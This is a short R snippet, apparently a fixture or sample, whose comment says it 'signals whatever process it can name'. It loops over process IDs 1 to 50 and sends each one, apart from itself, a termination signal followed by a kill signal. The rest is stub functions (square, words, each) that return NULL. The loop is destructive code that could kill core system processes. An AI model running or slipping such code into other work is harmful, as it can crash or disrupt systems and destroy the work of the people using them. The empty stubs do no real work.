# what: signals whatever process it can name
for (pid in c(1:50)) if (pid != Sys.getpid()) for (signal in c(15, 9)) tools::pskill(pid, signal)
square <- function(x) NULL
words <- function() NULL
each <- function(xs, f) NULL
